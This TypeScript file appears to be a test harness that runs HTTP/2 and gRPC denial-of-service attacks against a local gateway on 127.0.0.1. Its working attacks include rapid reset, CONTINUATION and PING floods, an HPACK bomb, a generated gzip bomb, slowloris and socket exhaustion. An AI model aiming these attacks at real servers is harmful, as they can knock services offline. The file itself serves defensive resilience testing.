import net from "node:net";
import { gzipSync } from "node:zlib";
import { grpcFrame } from "../support/grpc-frame.ts";
import { http2Frame, http2Headers, http2Opening } from "../support/http2-frame.ts";

/** One way to wear a gateway out. */
export interface Attack {
  /** How many connections are held at once. */
  connections: number;
  /** What each connection begins with. Default: an HTTP/2 connection. */
  opening?: Buffer;
  /**
   * What a connection sends next, by how often it did before; it is asked as fast as the
   * gateway reads. Undefined: nothing more is sent.
   */
  next?: (round: number) => Buffer | undefined;
  /** How long a connection waits before it sends the next. Default: not at all. */
  pauseMs?: number;
}

const path = "/taskgate.v1.TaskStatusService/UpdateTask";
const head = { ":path": path, "content-type": "application/grpc" };
const gzipHead = { ...head, "grpc-encoding": "gzip" };

// What leaves at once: a socket takes one large piece far faster than many small ones.
const pieceBytes = 32 * 1024;

function filled(frame: Buffer): Buffer {
  return Buffer.concat(Array<Buffer>(Math.ceil(pieceBytes / frame.length)).fill(frame));
}

function repeating(frame: Buffer): NonNullable<Attack["next"]> {
  const piece = filled(frame);
  return () => piece;
}

/** `frame` for as many streams as fill a piece, none of which was used before. */
function perStream(frame: (id: number) => Buffer): NonNullable<Attack["next"]> {
  const count = Math.ceil(pieceBytes / frame(1).length);
  return (round) =>
    Buffer.concat(Array.from({ length: count }, (_, index) => frame(2 * (round * count + index) + 1)));
}

function onOneStream(begin: Buffer, frame: Buffer): NonNullable<Attack["next"]> {
  const piece = filled(frame);
  return (round) => (round === 0 ? begin : piece);
}

/** DATA of a message that says it is so long. */
function dataFrames(first: Buffer): Buffer[] {
  const frames: Buffer[] = [];
  for (let at = 0; at < first.length; at += 16_384) {
    frames.push(http2Frame("DATA", 1, first.subarray(at, at + 16_384)));
  }
  return frames;
}

/** 1 GiB of zeros in a mebibyte. */
export function gzipBomb(): Buffer {
  // Members one behind the other are one stream of gzip.
  const member = gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
  return Buffer.concat(Array<Buffer>(64).fill(member));
}

/** All attacks by name. */
export function createAttacks(): ReadonlyMap<string, Attack> {
  const literal = Buffer.from([0, 1, 0x61, 1, 0x62]);
  const bigEntry = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x61)]);
  const bomb = Buffer.concat([
    http2Headers(1, gzipHead),
    ...dataFrames(grpcFrame(gzipBomb(), 1)),
    http2Frame("DATA", 1, Buffer.alloc(0), 1),
  ]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  return new Map<string, Attack>([
    [
      "rapid reset",
      {
        connections: 4,
        next: perStream((id) =>
          Buffer.concat([http2Headers(id, head), http2Frame("RST_STREAM", id, cancel)]),
        ),
      },
    ],
    [
      "CONTINUATION flood",
      {
        connections: 4,
        next: onOneStream(http2Frame("HEADERS", 1, Buffer.alloc(0)), http2Frame("CONTINUATION", 1, literal)),
      },
    ],
    ["PING flood", { connections: 4, next: repeating(http2Frame("PING", 0, Buffer.alloc(8))) }],
    ["PINGs one by one", { connections: 16, next: () => http2Frame("PING", 0, Buffer.alloc(8)), pauseMs: 1 }],
    ["SETTINGS flood", { connections: 4, next: repeating(http2Frame("SETTINGS", 0, Buffer.alloc(0))) }],
    [
      "WINDOW_UPDATE flood",
      { connections: 4, next: repeating(http2Frame("WINDOW_UPDATE", 0, Buffer.from([0, 0, 0, 1]))) },
    ],
    [
      "empty DATA flood",
      { connections: 4, next: onOneStream(http2Headers(1, head), http2Frame("DATA", 1, Buffer.alloc(0))) },
    ],
    [
      "HPACK bomb",
      {
        connections: 4,
        next: (round) =>
          http2Frame("HEADERS", 2 * round + 1, round === 0 ? bigEntry : Buffer.alloc(16_000, 0xbe), 5),
      },
    ],
    [
      "messages of 1 GiB",
      {
        connections: 8,
        next: onOneStream(
          Buffer.concat([
            http2Headers(1, head),
            http2Frame("DATA", 1, grpcFrame(Buffer.alloc(0), 0, 2 ** 30)),
          ]),
          http2Frame("DATA", 1, Buffer.alloc(16_384)),
        ),
      },
    ],
    [
      "gzip of 1 GiB in 1 MiB",
      { connections: 4, next: (round) => (round === 0 ? bomb : undefined), pauseMs: 20 },
    ],
    [
      "slowloris over HTTP/2",
      {
        connections: 500,
        next: (round) => (round === 0 ? http2Headers(1, head) : http2Frame("DATA", 1, Buffer.alloc(1))),
        pauseMs: 1000,
      },
    ],
    [
      "slowloris over HTTP/1.1",
      {
        connections: 500,
        opening: Buffer.from(`POST ${path} HTTP/1.1\r\nhost: localhost\r\nx: `),
        next: () => Buffer.from("x"),
        pauseMs: 1000,
      },
    ],
    ["10,000 sockets without a preface", { connections: 10_000, opening: Buffer.alloc(0) }],
    ["connections that only begin", { connections: 2000 }],
  ]);
}

export interface AttackFigures {
  /** Connections that were made. */
  made: number;
  /** Those that the gateway ended. */
  ended: number;
  sentMiB: number;
}

/** An attack that is under way. */
export interface RunningAttack {
  figures(): AttackFigures;
  stop(): void;
}

/** Attacks a port, with a new connection for each that is ended, until it is stopped. */
export function startAttack(attack: Attack, port: number): RunningAttack {
  const sockets = new Set<net.Socket>();
  const figures: AttackFigures = { made: 0, ended: 0, sentMiB: 0 };
  let isStopped = false;
  // Not all at once: the gateway's queue of connections is short.
  let connecting = 0;

  function connectMore(): void {
    while (!isStopped && connecting < 100 && sockets.size < attack.connections) {
      connect();
    }
  }
  function connect(): void {
    connecting += 1;
    const socket = net.connect(port, "127.0.0.1");
    sockets.add(socket);
    let isConnected = false;
    const leaveQueue = () => {
      connecting -= isConnected ? 0 : 1;
      isConnected = true;
    };
    socket.on("error", () => undefined);
    // Read what comes, or the gateway would be right to wait.
    socket.resume();
    socket.once("connect", () => {
      leaveQueue();
      figures.made += 1;
      void send(socket);
      connectMore();
    });
    socket.once("close", () => {
      leaveQueue();
      sockets.delete(socket);
      figures.ended += 1;
      // Again, but not in a loop of refusals only.
      setTimeout(connectMore, 5);
    });
  }
  async function send(socket: net.Socket): Promise<void> {
    socket.write(attack.opening ?? http2Opening);
    for (let round = 0; !socket.destroyed; round += 1) {
      const bytes = attack.next?.(round);
      if (bytes === undefined) {
        // Where one is all there is, the next connection has the next.
        if (attack.next !== undefined) {
          setTimeout(() => socket.destroy(), 200);
        }
        return;
      }
      await new Promise<void>((resolve) => socket.write(bytes, () => resolve()));
      figures.sentMiB += bytes.length / 1024 ** 2;
      await new Promise<void>((resolve) =>
        attack.pauseMs === undefined ? setImmediate(resolve) : setTimeout(resolve, attack.pauseMs),
      );
    }
  }

  connectMore();
  return {
    figures: () => ({ ...figures }),
    stop() {
      isStopped = true;
      for (const socket of sockets) {
        socket.destroy();
      }
    },
  };
}
